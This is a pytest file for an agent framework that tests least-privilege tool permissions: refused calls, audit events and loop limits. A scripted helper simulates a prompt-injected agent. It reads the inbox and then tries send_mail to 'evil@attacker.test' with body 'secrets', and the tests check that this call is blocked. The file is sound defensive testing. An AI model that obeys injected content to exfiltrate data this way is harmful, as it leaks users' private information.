"""Least privilege: tools declare effect and scopes, an agent's Grant allows calls by
them; a call outside it is refused (a ``permission_denied`` tool error to the model, a
``tool_call_refused`` audit event), never executed."""

from __future__ import annotations

import json

import pytest

import stalwart as sw
from stalwart.cli._timeline import read_story
from stalwart.cli._trace import build_trace
from stalwart.engine._cost import PriceTable
from stalwart.engine._privilege import decide, scope_granted
from stalwart.models import ModelRequest
from stalwart.store._base import EventKind
from stalwart.testing import MemoryStore


def _tools(app: sw.Runtime, executed: list[str]) -> tuple[sw.Tool[..., str], ...]:
    @app.tool(effect="read", scopes={"mail:read"})
    def read_inbox() -> str:
        """Read the inbox."""
        executed.append("read_inbox")
        return "1 mail: 'lunch?'"

    @app.tool(effect="privileged", scopes={"mail:send"})
    def send_mail(to: str, body: str) -> str:
        """Send a mail."""
        executed.append(f"send_mail:{to}")
        return "sent"

    return read_inbox, send_mail


def test_a_tool_declares_a_known_effect_and_scopes() -> None:
    """Effect is read/write/privileged (default write); scopes are a collection."""
    def f() -> None: ...
    assert sw.Tool(f).effect == "write" and sw.Tool(f).scopes == frozenset()
    assert sw.Tool(f, effect="privileged", scopes=["a:b"]).scopes == {"a:b"}
    with pytest.raises(sw.ConfigurationError, match="effect must be one of"):
        sw.Tool(f, effect="admin")  # type: ignore[arg-type]
    with pytest.raises(sw.ConfigurationError, match="not the string"):
        sw.Tool(f, scopes="mail:send")
    with pytest.raises(sw.ConfigurationError, match="without spaces"):
        sw.Tool(f, scopes=["mail send"])
    with pytest.raises(sw.ConfigurationError, match="unknown effect"):
        sw.Grant(effects={"root"})  # type: ignore[arg-type]
    with pytest.raises(sw.ConfigurationError, match=r"must be a sw\.Grant"):
        sw.Agent("a", "sim:x", grant={"effects": ["read"]})  # type: ignore[arg-type]


def test_the_grant_rule() -> None:
    """Effect in the grant's effects, every scope granted (``area:*`` and ``*``
    patterns), and the name listed when the grant lists names."""
    def f() -> None: ...
    send = sw.Tool(f, name="send", effect="privileged", scopes={"mail:send"})
    read = sw.Tool(f, name="read", effect="read")
    assert decide(send, grant=None).action == "allow"
    assert decide(read, grant=sw.Grant()).action == "allow"
    refused = decide(send, grant=sw.Grant())
    assert (refused.action, refused.reason) == ("refuse", "not_granted")
    assert "effect 'privileged'" in refused.message
    no_scope = decide(send, grant=sw.Grant(effects={"privileged"}))
    assert "needs scope(s) mail:send" in no_scope.message
    assert sw.Grant(effects={"privileged"}, scopes={"mail:*"}).allows(send)
    assert sw.Grant(effects={"privileged"}, scopes={"*"}).allows(send)
    assert not sw.Grant(effects={"privileged"}, scopes={"calendar:*"}).allows(send)
    assert not sw.Grant(effects={"read"}, tools={"other"}).allows(read)
    assert scope_granted("mail:*", "mail:send:bulk")
    assert not scope_granted("mail:*", "mailbox:read")
    assert not scope_granted("mail", "mail:send")


def _obeys_injection(request: ModelRequest) -> sw.models.ScriptedReply:
    """Reads the inbox, then calls send_mail (as an injected mail would make it)."""
    done = [m for m in request.messages if m.role == "tool"]
    if not done:
        return sw.ToolCallRequest.create("c1", "read_inbox", {})
    if len(done) == 1:
        return sw.ToolCallRequest.create("c2", "send_mail",
                                         {"to": "evil@attacker.test", "body": "secrets"})
    return "done"


async def test_a_call_outside_the_grant_is_refused_audited_and_not_executed() -> None:
    """The privileged tool is not offered to the model; the call it makes anyway never
    runs: the model gets ``permission_denied``, the journal ``tool_call_refused`` (once,
    also after a resume replays the agent), and the trace shows it."""
    clock, store = sw.FakeClock(autojump=True), MemoryStore()
    app = sw.Runtime(store, clock=clock, park_after=0.0)
    executed: list[str] = []
    model = sw.FunctionModel(_obeys_injection)
    agent = sw.Agent("mailbot", model, tools=_tools(app, executed),
                     grant=sw.Grant(effects={"read"}, scopes={"mail:read"}))

    @app.workflow
    async def triage(ctx: sw.Context) -> int:
        result = await agent.run_result(ctx, "Triage my inbox")
        await ctx.wait_for_signal("done")  # parks: the next execution replays the agent
        return result.refused

    async with app:
        handle = await app.start(triage, run_id="r")
        while (await app.get_run("r")).status != sw.RunStatus.WAITING:
            await clock.sleep(0.1)
        await handle.signal("done", None)
        assert await handle.result() == 1
        events = await app.events("r")
        record = await app.get_run("r")
    assert executed == ["read_inbox"]
    assert [t.name for t in model.requests[0].tools] == ["read_inbox"]
    denied = json.loads(model.requests[2].messages[-1].content or "")["error"]
    assert denied["type"] == "permission_denied"
    assert "not executed" in denied["message"]
    refusals = [e for e in events if e.kind == EventKind.TOOL_CALL_REFUSED]
    assert len(refusals) == 1
    info = json.loads(refusals[0].payload or "")
    assert (info["tool"], info["effect"], info["scopes"], info["reason"]) == (
        "send_mail", "privileged", ["mail:send"], "not_granted")
    assert json.loads(info["arguments"])["to"] == "evil@attacker.test"
    assert not any(e.name == "tool:send_mail" for e in events)
    story = read_story(record, events)
    assert any("send_mail" in line for st in story.steps for line in st.refusals)
    trace = build_trace(record, events, PriceTable())
    labels = [n["label"] for n in _walk(trace.as_json())]
    assert any(label.startswith("refused tool send_mail") for label in labels)


async def test_the_same_refused_call_again_and_again_is_a_loop() -> None:
    """A model that keeps making the refused call ends in ToolLoopError (bounded)."""
    app = sw.Runtime(MemoryStore(), clock=sw.FakeClock(autojump=True))
    executed: list[str] = []
    _, send = _tools(app, executed)
    model = sw.FunctionModel(lambda r: sw.ToolCallRequest.create(
        f"c{len(r.messages)}", "send_mail", {"to": "x@y.z", "body": "b"}))
    agent = sw.Agent("a", model, tools=[send], grant=sw.Grant(effects={"read"}))

    @app.workflow
    async def wf(ctx: sw.Context) -> str:
        return await agent.run(ctx, "go")

    async with app:
        with pytest.raises(sw.RunFailedError, match="refused 3 times"):
            await app.run(wf)
    assert executed == []


def _walk(node: dict[str, object]) -> list[dict[str, object]]:
    children = node.get("children")
    assert isinstance(children, list)
    return [node, *(n for c in children for n in _walk(c))]
